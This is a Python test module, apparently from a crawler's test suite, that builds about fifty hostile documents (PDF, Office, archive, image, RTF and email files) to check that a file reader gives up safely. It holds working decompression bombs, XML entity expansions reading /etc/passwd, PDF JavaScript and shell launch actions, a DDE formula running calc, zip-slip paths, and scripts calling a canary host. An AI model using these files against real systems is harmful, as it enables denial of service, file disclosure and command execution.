"""Hostile files: PDF, Word, Excel, archives, pictures, letters of old, and lies about what a file is."""

import io
import random
import stat
import struct
import tarfile
import zipfile
import zlib
from functools import cache
from inspect import signature

from hostile.ground import trick
from read.making import _assemble, _stream, paragraph, tiny_docx, tiny_pdf, zipped
from read.making_old import ole_file

WORDS = "แผนพัฒนาท้องถิ่น "
_GIVEN_UP = "unread:damaged unread:too_large unread:too_slow unread:empty unread:crashed unread:unsupported"


_MADE = []


def make_all():
    """Make the files before anybody waits for them."""
    for make in _MADE:
        make()


def file(name, kind, outcomes, make, *, status="200 OK"):
    """A trick that answers with the bytes that ``make`` gives, made once; it is told the canary if it asks."""
    once, asks = cache(make), bool(signature(make).parameters)
    if not asks:
        _MADE.append(once)

    async def answer(call):
        await call.send(once(call.site.canary_host) if asks else once(), kind, status)

    return trick(name, outcomes, suffix="." + name.partition("-")[0])(answer)


def zeros(size):
    """``size`` zeros, packed."""
    pack = zlib.compressobj(1)
    return b"".join([*(pack.compress(bytes(1_000_000)) for _ in range(size // 1_000_000)), pack.flush()])


def page_of(content, extra=b""):
    """A PDF of one page with this content stream."""
    return _assemble(
        {
            1: b"<</Type/Catalog/Pages 2 0 R" + extra + b">>",
            2: b"<</Type/Pages/Count 1/Kids[10 0 R]>>",
            5: b"<<>>",
            10: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 11 0 R/Resources<<>>>>",
            11: content,
        }
    )


def pdf_objects():
    return (
        b"%PDF-1.5\n" + b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(1, 120_000)) + b"trailer<</Root 1 0 R>>"
    )


def pdf_bomb():
    return page_of(_stream(b"/Filter/FlateDecode", zeros(250_000_000)))


def pdf_bomb_of_bombs():
    return page_of(_stream(b"/Filter[/FlateDecode/FlateDecode/FlateDecode]", zlib.compress(zeros(250_000_000))))


def pdf_many_pages():
    kids = b" ".join(b"10 0 R" for _ in range(200_000))
    one = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 11 0 R/Resources<<>>>>"
    return _assemble(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 200000/Kids[" + kids + b"]>>",
            5: b"<<>>",
            10: one,
            11: _stream(b"", b"0 0 m 9 9 l S " * 9000),
        }
    )


def pdf_circle():
    return _assemble(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Count 2000000/Kids[3 0 R]>>",
            3: b"<</Type/Pages/Count 2000000/Kids[2 0 R 3 0 R]/Parent 2 0 R>>",
            5: b"<<>>",
        }
    )


def pdf_actions(host):
    acts = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://{canary}/'\\);while\\(1\\){})/Next<</S/Launch/F(sh)/Next<</S/URI/URI(http://{canary}/)>>>>>>"
    acts += b"/AA<</WC<</S/SubmitForm/F(http://{canary}/)>>>>/AcroForm<</XFA(<x/>)/Fields[]>>"
    return tiny_pdf(WORDS * 5).replace(b"/Type/Catalog", b"/Type/Catalog" + acts.replace(b"{canary}", host.encode()))


def pdf_away(host):
    far = b"<</FS/URL/F(http://{canary}/x.pdf)/Type/Filespec>>"
    far = far.replace(b"{canary}", host.encode())
    return page_of(b"<</F " + far + b"/Length 0>>stream\n\nendstream")


def pdf_locked():
    return tiny_pdf(WORDS).replace(
        b"trailer<<",
        b"trailer<</Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O<"
        + b"00" * 32
        + b">/U<"
        + b"11" * 32
        + b">>>/ID[<00><00>]",
    )


def pdf_large_sheet():
    return tiny_pdf(b"\x40" * 16).replace(b"[0 0 595 842]", b"[0 0 9e8 9e8]").replace(b"500 0 0 700", b"9e8 0 0 9e8")


def pdf_pixels():
    return tiny_pdf(b"\x40" * 16).replace(b"/Width 4/Height 4", b"/Width 90000/Height 90000")


def pdf_deep():
    return page_of(_stream(b"", b"q " * 400_000 + b"[" * 400_000))


def pdf_deep_catalog():
    return page_of(_stream(b"", b""), b"/X" + b"[" * 200_000 + b"]" * 200_000)


def pdf_numbers():
    return (
        tiny_pdf(WORDS)
        .replace(b"startxref\n", b"startxref\n99999999999999999999")
        .replace(b"/Size", b"/Size 4294967295/Prev -1/Q")
    )


def pdf_form_circle():
    own = b"<</XObject<</A 12 0 R>>>>"
    forms = {12: _stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources" + own, b"/A Do " * 9)}
    whole = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[10 0 R]>>",
        5: b"<<>>",
        10: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 11 0 R/Resources" + own + b">>",
        11: _stream(b"", b"/A Do"),
    }
    return _assemble(whole | forms)


def pdf_font():
    bad = bytes(random.Random(1).randbytes(60_000))
    head = b"\0\1\0\0\0\x0a\xff\xff\xff\xff" + bad
    return (
        tiny_pdf(WORDS * 9)
        .replace(
            b"/BaseFont/Helvetica",
            b"/BaseFont/X/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>",
        )
        .replace(b"5 0 obj", b"6 0 obj" + _stream(b"", head) + b"endobj\n5 0 obj")
    )


def entities(host):
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">{lines}<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://{host}/x"><!ENTITY % z SYSTEM "http://{host}/z"> %z;]>'


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx_entities(host):
    body = f"{entities(host)}<w:document {W}><w:body>{paragraph('&x;&y;&l11;' + WORDS)}</w:body></w:document>"
    return zipped({"[Content_Types].xml": entities(host) + "<Types/>", "word/document.xml": body}, stored=True)


def filled(parts, name, piece, times):
    """A ZIP of ``parts`` and of one that holds ``piece`` many times."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, data in parts.items():
            archive.writestr(other, data)
        with archive.open(name, "w", force_zip64=True) as part:
            for _ in range(times):
                part.write(piece)
    return out.getvalue()


TYPES = {"[Content_Types].xml": "<Types/>"}


def docx_bomb():
    return filled(TYPES, "word/document.xml", b" " * 1_000_000, 150)


def docx_bomb_of_elements():
    return filled(TYPES, "word/document.xml", b"<w:p/>" * 100_000, 100)


def docx_deep():
    return tiny_docx("<w:tbl><w:tr><w:tc>" * 60_000)


def docx_cells():
    return tiny_docx(
        "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='999999999'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>" * 50
    )


def docx_away(host):
    rels = '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://HOST/t.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://x/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    rels = rels.replace("HOST", host)
    extra = {"word/_rels/document.xml.rels": rels, "word/_rels/settings.xml.rels": rels}
    return zipped(
        {
            **TYPES,
            "word/document.xml": f"<w:document {W}><w:body>{paragraph(WORDS * 3)}</w:body></w:document>",
            **extra,
        },
        stored=True,
    )


S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook {S}><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}


def sheet(rows):
    return f"<worksheet {S}><sheetData>{rows}</sheetData></worksheet>"


def xlsx_rows():
    return filled(BOOK, "xl/worksheets/sheet1.xml", sheet("<row><c><v>1</v></c></row>" * 1_000_000).encode(), 1)


def xlsx_corner():
    return zipped(
        {
            **BOOK,
            "xl/worksheets/sheet1.xml": sheet(
                '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
            ),
        }
    )


def xlsx_strings(host):
    more = {"xl/sharedStrings.xml": entities(host) + f"<sst {S}><si><t>&l11;&x;&y;</t></si></sst>"}
    return zipped(
        {
            **BOOK,
            **more,
            "xl/worksheets/sheet1.xml": entities(host)
            + sheet('<row r="1"><c r="A1" t="s"><v>99999999</v></c><c r="B1" t="s"><v>-5</v></c></row>'),
        },
        stored=True,
    )


def xlsx_away(host):
    rels = '<Relationships xmlns="x"><Relationship Id="r1" Type="x/externalLinkPath" Target="http://HOST/book.xlsx" TargetMode="External"/></Relationships>'
    cells = '<row r="1"><c r="A1"><f>WEBSERVICE("http://HOST/")</f><v>1</v></c><c r="B1" t="str"><f>cmd|"/c calc"!A1</f><v>=1+1</v></c></row>'
    return zipped(
        {
            **BOOK,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.replace("HOST", host),
            "xl/worksheets/sheet1.xml": sheet(cells.replace("HOST", host)),
        },
        stored=True,
    )


def zip_names():
    names = [
        "../../../../tmp/oitcrawl-canary.txt",
        "/tmp/oitcrawl-canary.txt",
        "C:\\tmp\\oitcrawl-canary.txt",
        "a/../../b.txt",
        "\x1b[2J.txt",
        "x" * 60_000,
        "a\0b.txt",
        "..",
        "con.txt",
    ]
    return zipped(dict.fromkeys(names, WORDS))


def zip_links():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link.txt/x.txt", WORDS)
    return out.getvalue()


def zip_bomb():
    return filled({}, "a.txt", bytes(1_000_000), 60)


def zip_entries():
    return zipped({f"{n}.txt": "x" for n in range(30_000)}, stored=True)


def zip_nested():
    inner = zipped({"a.txt": WORDS})
    for _ in range(40):
        inner = zipped({"a.zip": inner})
    return inner


def zip_overlap():
    """Five hundred names of one bomb, as of the zip bomb that does not nest."""
    body = filled({}, "a.txt", bytes(1_000_000), 30)
    end = body.rindex(b"PK\5\6")
    start = struct.unpack_from("<I", body, end + 16)[0]
    entry = body[start:end]
    tail = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 500, 500, 500 * len(entry), start, 0)
    return body[:start] + entry * 500 + tail


def zip_lie():
    body = bytearray(zip_bomb())
    start = body.rindex(b"PK\1\2")
    struct.pack_into("<I", body, start + 24, 10)  # says that it unpacks to ten bytes
    return bytes(body)


def tar_links():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
            info = tarfile.TarInfo("../../x.txt")
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
        info = tarfile.TarInfo("big.txt")
        info.size = 1 << 40
        archive.fileobj.write(info.tobuf())
    return out.getvalue()


def gz_bomb():
    pack = zlib.compressobj(1, wbits=31)
    return b"".join([*(pack.compress(bytes(1_000_000)) for _ in range(60)), pack.flush()])


def png_pixels():
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zeros(50_000_000)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def png_text():
    head = struct.pack(">IIBBBBB", 4, 4, 8, 0, 0, 0, 0)
    chunks = (
        (b"IHDR", head),
        *((b"zTXt", b"a\0\0" + zeros(60_000_000)),) * 20,
        (b"IDAT", zlib.compress(b"\0\0\0\0\0" * 4)),
        (b"IEND", b""),
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def gif_frames():
    frame = b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x4c\x01\0"
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + frame * 50_000 + b";"


def tif_circle():
    tags = [
        (256, 4, 1, 60_000),
        (257, 4, 1, 60_000),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (279, 4, 1, 4_000_000_000),
    ]
    return (
        b"II*\0\x08\0\0\0"
        + struct.pack("<H", len(tags))
        + b"".join(struct.pack("<HHII", *tag) for tag in tags)
        + struct.pack("<I", 8)
    )


def jpg_lie():
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xc0\0\x11\x08\xff\xff\xff\xff\3\1\x22\0\2\x11\1\3\x11\1"
        b"\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0\x3f\0" + b"\0" * 5000
    )


def svg_away(host):
    return f'{entities(host)}<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://{host}/")</script><image href="http://{host}/i.png"/><text>&l11;&x;</text></svg>'.encode()


def doc_circle():
    body = bytearray(ole_file({"WordDocument": b"x" * 9000}))
    table = len(body) - 512
    body[table : table + 512] = struct.pack("<128I", *([1] * 128))  # every sector leads to the second
    return bytes(body)


def doc_rubbish():
    return ole_file(
        {"WordDocument": b"\xec\xa5\xc1\0" + random.Random(2).randbytes(60_000), "1Table": b"\xff" * 9000}
    )


def eml_nest():
    head = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n"
    return (
        b"From: a@b\r\nSubject: x\r\n"
        + b"".join(head % (n, n) for n in range(3000))
        + b"Content-Type: text/plain\r\n\r\nx"
    )


FILES = (
    file("pdf-of-many-objects", "pdf", _GIVEN_UP, pdf_objects),
    file("pdf-stream-bomb", "pdf", _GIVEN_UP, pdf_bomb),
    file("pdf-stream-bomb-of-bombs", "pdf", _GIVEN_UP, pdf_bomb_of_bombs),
    file("pdf-of-endless-pages", "pdf", "read unread:empty unread:too_slow unread:scan", pdf_many_pages),
    file("pdf-pages-in-a-circle", "pdf", _GIVEN_UP, pdf_circle),
    file("pdf-with-script-and-launch", "pdf", "read", pdf_actions),
    file("pdf-with-content-elsewhere", "pdf", "unread:empty unread:scan", pdf_away),
    file("pdf-encrypted", "pdf", "unread:password", pdf_locked),
    file("pdf-on-a-sheet-of-kilometres", "pdf", _GIVEN_UP + " unread:scan", pdf_large_sheet),
    file("pdf-with-a-picture-of-gigapixels", "pdf", _GIVEN_UP + " unread:scan", pdf_pixels),
    file("pdf-deep-content", "pdf", _GIVEN_UP + " unread:scan", pdf_deep),
    file("pdf-deep-catalog", "pdf", _GIVEN_UP + " unread:scan", pdf_deep_catalog),
    file("pdf-with-mad-numbers", "pdf", "read " + _GIVEN_UP, pdf_numbers),
    file("pdf-form-in-itself", "pdf", _GIVEN_UP, pdf_form_circle),
    file("pdf-with-a-broken-font", "pdf", "read " + _GIVEN_UP, pdf_font),
    file(
        "pdf-that-is-a-page",
        "pdf",
        "failed:wrong_type failed:soft_404 read",
        lambda: b"<html><p>no such file</p></html>",
    ),
    file("pdf-of-noise", "pdf", "unread:damaged", lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(90_000)),
    file("pdf-without-a-byte", "pdf", "unread:empty", lambda: b""),
    file("docx-with-entities", "docx", "read " + _GIVEN_UP, docx_entities),
    file("docx-bomb", "docx", _GIVEN_UP, docx_bomb),
    file("docx-bomb-of-elements", "docx", _GIVEN_UP, docx_bomb_of_elements),
    file("docx-of-deep-tables", "docx", "read " + _GIVEN_UP, docx_deep),
    file("docx-of-endless-cells", "docx", "read " + _GIVEN_UP, docx_cells),
    file("docx-with-a-template-elsewhere", "docx", "read", docx_away),
    file("xlsx-of-a-million-rows", "xlsx", "read " + _GIVEN_UP, xlsx_rows),
    file("xlsx-with-a-far-corner", "xlsx", "read " + _GIVEN_UP, xlsx_corner),
    file("xlsx-with-entities", "xlsx", "read " + _GIVEN_UP, xlsx_strings),
    file("xlsx-with-links-and-formulas", "xlsx", "read", xlsx_away),
    file("zip-with-paths", "zip", "read", zip_names),
    file("zip-with-symlinks", "zip", "read", zip_links),
    file("zip-bomb", "zip", _GIVEN_UP, zip_bomb),
    file("zip-of-many-entries", "zip", "read " + _GIVEN_UP, zip_entries),
    file("zip-in-zip-in-zip", "zip", _GIVEN_UP, zip_nested),
    file("zip-of-overlapping-entries", "zip", _GIVEN_UP, zip_overlap),
    file("zip-that-lies-of-its-size", "zip", _GIVEN_UP, zip_lie),
    file("tar-with-links-and-devices", "application/gzip", _GIVEN_UP, tar_links),
    file("gz-bomb", "application/gzip", _GIVEN_UP, gz_bomb),
    file("png-of-gigapixels", "png", _GIVEN_UP + " unread:scan", png_pixels),
    file("png-with-text-bombs", "png", "unread:scan " + _GIVEN_UP, png_text),
    file("gif-of-many-frames", "image/gif", "unread:scan " + _GIVEN_UP, gif_frames),
    file("tif-in-a-circle", "image/tiff", "unread:scan " + _GIVEN_UP, tif_circle),
    file("jpg-that-lies-of-its-size", "image/jpeg", "unread:scan " + _GIVEN_UP, jpg_lie),
    file("svg-with-script-and-entities", "image/svg+xml", "read " + _GIVEN_UP, svg_away),
    file("doc-in-a-circle", "application/msword", _GIVEN_UP, doc_circle),
    file("doc-of-noise", "application/msword", _GIVEN_UP, doc_rubbish),
    file("rtf-of-deep-groups", "application/rtf", "read " + _GIVEN_UP, lambda: b"{\\rtf1 " + b"{" * 900_000),
    file(
        "rtf-with-a-mad-binary",
        "application/rtf",
        "read " + _GIVEN_UP,
        lambda: b"{\\rtf1 \\bin99999999999 x" + b"\\u-99999999999 " * 9000 + b"}",
    ),
    file("eml-of-deep-parts", "message/rfc822", "read " + _GIVEN_UP, eml_nest),
    file("csv-of-one-line", "text/csv", "read " + _GIVEN_UP, lambda: b"a," * 700_000),
    file("txt-of-nulls", "text/plain", "read " + _GIVEN_UP, lambda: bytes(4_000_000)),
)
